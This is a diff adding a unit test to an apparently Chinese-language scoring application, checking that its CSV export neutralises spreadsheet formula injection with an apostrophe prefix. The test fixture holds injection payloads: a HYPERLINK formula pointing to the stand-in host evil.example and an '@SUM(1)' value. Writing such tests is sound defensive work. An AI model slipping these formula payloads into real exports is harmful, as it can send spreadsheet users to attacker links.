@@ -52,3 +52,34 @@ describe('unit CSV carries the words of the Result', () => {
     expect(text).toContain('调整,F1,复核,9.00,0.00,,调整后该项得分应在 0 至 4 分之间,1')
   })
 })
+
+describe('unit CSV never hands a spreadsheet a formula', () => {
+  const scheme = testScheme([
+    { id: 'X', name: '学法', max: 4, metric: { count: 'TrainingHeld' }, scoring: { kind: 'flag' } },
+  ])
+  const training = fact('TrainingHeld', 'lizhou', {
+    sessionId: 's1',
+    kind: 'lecture',
+    topic: '学法',
+    attendees: 3,
+  })
+  const s = given(
+    unitRegistered('lizhou', '利州区'),
+    training,
+    fact('PointsAdjusted', 'lizhou', {
+      schemeId: 'test-2017',
+      indicatorId: 'X',
+      points: -1,
+      reason: '=HYPERLINK("http://evil.example/?x","详情")',
+      approvedBy: '@SUM(1)',
+    })
+  ).scoredWith(scheme)
+  const text = unitToCsv(s.unit('lizhou'), scheme)
+
+  it('starts text that would run as a formula with an apostrophe, and leaves −1.00 a number', () => {
+    // 4 (flag) − 1 = 3: the adjustment's points and what it changed stay plain decimals.
+    expect(text).toContain(
+      `调整,X,"'=HYPERLINK(""http://evil.example/?x"",""详情"")",-1.00,-1.00,,'@SUM(1)批准,1`
+    )
+  })
+})
